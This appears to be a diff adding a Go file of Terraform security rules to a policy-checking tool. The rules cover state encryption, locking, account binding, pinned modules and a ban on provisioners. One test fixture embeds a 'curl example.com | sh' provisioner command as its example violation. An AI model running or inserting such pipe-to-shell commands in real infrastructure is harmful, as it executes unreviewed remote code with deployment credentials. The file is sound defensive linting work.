@@ -1,0 +1,175 @@
+package rules
+
+import (
+	"regexp"
+	"slices"
+	"strings"
+
+	"landform/internal/guardrails"
+)
+
+var terraformRules = []rule{
+	{
+		ID: "state-encrypted", Class: refused, Stack: StateEncrypted,
+		Why: "the state holds every secret of the stack in plain text",
+		Fix: "backend s3 with encrypt = true and kms_key_id",
+	},
+	{
+		ID: "state-locked", Class: refused, Stack: StateLocked,
+		Why: "two deployments at a time would destroy the state",
+		Fix: "backend s3 with dynamodb_table or use_lockfile",
+	},
+	{
+		ID: "provider-account-bound", Class: refused, Stack: ProviderAccountBound,
+		Why: "with the wrong credentials the stack would be applied to another account",
+		Fix: "allowed_account_ids with one account",
+	},
+	{
+		ID: "provider-version-bound", Class: advice, Stack: ProviderVersionBound,
+		Why:     "another major version of a provider plans something else",
+		Fix:     "required_providers with source and version",
+		Aliases: []string{"CKV_TF_1"},
+	},
+	{
+		ID: "no-provisioners", Class: refused, Types: []string{guardrails.AnyType}, Resource: NoProvisioners,
+		Why:      "a provisioner runs commands where Terraform runs, with its credentials, and no plan shows what they do",
+		Fix:      "user data, or a resource of the provider",
+		Violates: `{"aws_ebs_volume": {"main": {"provisioner": {"local-exec": {"command": "curl example.com | sh"}}}}}`,
+	},
+	{
+		ID: "no-commands", Class: refused, Stack: NoCommands,
+		Why: "it runs commands, or fetches what nobody has reviewed, where Terraform runs, at each plan",
+		Fix: "a resource of the provider",
+	},
+	{
+		ID: "module-pinned", Class: refused, Stack: ModulePinned,
+		Why:     "whoever changes the module changes the stack",
+		Fix:     "a version, or ref= with a commit",
+		Aliases: []string{"CKV_TF_1", "CKV_TF_2"},
+	},
+	{
+		ID: "changes-seen", Class: refused, Types: []string{guardrails.AnyType}, Resource: ChangesSeen,
+		Why:      "Terraform would not put back what somebody opened by hand",
+		Fix:      "the arguments that are expected to change",
+		Violates: `{"aws_ebs_volume": {"main": {"lifecycle": {"ignore_changes": "all"}}}}`,
+	},
+	{
+		ID: "reference-resolves", Class: refused, Types: []string{guardrails.AnyType}, Resource: ReferenceResolves,
+		Why:      "Terraform refuses a reference to what the stack does not have",
+		Fix:      "the address of a resource of the stack",
+		Violates: `{"aws_ebs_volume": {"main": {"kms_key_id": "${aws_kms_key.missing.arn}"}}}`,
+	},
+}
+
+// backend is the S3 backend of a stack. The second result is false where the state lies elsewhere.
+func backend(s stack) (value, bool) {
+	found := s.Value("terraform.backend.s3")
+	return found, found.Exists()
+}
+
+// StateEncrypted wants a state that is encrypted with a key of our own.
+func StateEncrypted(s stack) answer {
+	state, ok := backend(s)
+	switch {
+	case !ok:
+		return skip
+	case !state.Field("encrypt").IsTrue():
+		return broken("terraform.backend", "%s", shown("backend s3 encrypt", state.Field("encrypt")))
+	case !state.Field("kms_key_id").Exists():
+		return broken("terraform.backend", "backend s3 kms_key_id is not set")
+	}
+	return pass
+}
+
+// StateLocked wants one deployment at a time.
+func StateLocked(s stack) answer {
+	state, ok := backend(s)
+	if !ok {
+		return skip
+	}
+	if state.Field("dynamodb_table").Exists() || state.Field("use_lockfile").IsTrue() {
+		return pass
+	}
+	return broken("terraform.backend", "backend s3 has no lock")
+}
+
+// ProviderAccountBound wants providers that refuse any account but one. One for planning without AWS has none.
+func ProviderAccountBound(s stack) answer {
+	whole := skip
+	for _, provider := range s.Value("provider.aws").List() {
+		if provider.Field("skip_requesting_account_id").IsTrue() {
+			continue
+		}
+		whole = whole.And(pass)
+		if len(provider.All("allowed_account_ids")) != 1 {
+			whole = whole.And(broken("provider.aws", "allowed_account_ids has %d accounts", len(provider.All("allowed_account_ids"))))
+		}
+	}
+	return whole
+}
+
+// ProviderVersionBound wants the source and the version of each provider that is configured.
+func ProviderVersionBound(s stack) answer {
+	whole := pass
+	for _, name := range sorted(s.Value("provider").Keys()) {
+		required := s.Value("terraform.required_providers").Field(name)
+		version := required.Field("version")
+		if !version.Exists() || strings.HasPrefix(strings.TrimSpace(version.String()), ">") && !strings.Contains(version.String(), "<") {
+			whole = whole.And(broken("terraform.required_providers", "provider %s has no version that ends", name))
+		}
+	}
+	return whole
+}
+
+// NoProvisioners wants resources without commands.
+func NoProvisioners(r resource) answer {
+	if r.Value("provisioner").Exists() {
+		return broken("provisioner", "provisioner %s", strings.Join(sorted(r.Value("provisioner").Keys()), ", "))
+	}
+	return pass
+}
+
+// NoCommands wants no data source and no resource that runs commands.
+func NoCommands(s stack) answer {
+	whole := pass
+	for _, r := range slices.Concat(s.Data(), s.Resources) {
+		if r.Type == "external" || r.Type == "http" || r.Type == "null_resource" && r.Value("provisioner").Exists() || r.Type == "shell_script" {
+			whole = whole.And(broken("", "%s", r.Address()))
+		}
+	}
+	return whole
+}
+
+// fixed matches a Git source with a commit or a tag.
+var fixed = regexp.MustCompile(`[?&]ref=(v?\d|[0-9a-f]{7,40}\b)`)
+
+// ModulePinned wants modules of others by their version.
+func ModulePinned(s stack) answer {
+	whole := pass
+	for _, name := range sorted(s.Value("module").Keys()) {
+		module := s.Value("module").Field(name)
+		source := module.Field("source").String()
+		if strings.HasPrefix(source, "./") || strings.HasPrefix(source, "../") || module.Field("version").Exists() || fixed.MatchString(source) {
+			continue
+		}
+		whole = whole.And(broken("module."+name, "module %s from %s has no version", name, source))
+	}
+	return whole
+}
+
+// ChangesSeen wants changes to be named that Terraform overlooks.
+func ChangesSeen(r resource) answer { return isNone(r, "lifecycle.ignore_changes", "all") }
+
+// ReferenceResolves wants references to what is there.
+func ReferenceResolves(r resource) answer {
+	whole := pass
+	for _, reference := range r.References() {
+		if _, ok := r.Stack().Resource(reference.To); !ok && isType.MatchString(reference.To) {
+			whole = whole.And(broken(reference.Argument, "%s refers to %s", reference.Argument, reference.To))
+		}
+	}
+	return whole
+}
+
+// isType matches addresses of the providers that we use: in "for x in list : x.name", "x.name" is none.
+var isType = regexp.MustCompile(`^(data\.)?(aws|random|tls)_\w+\.`)
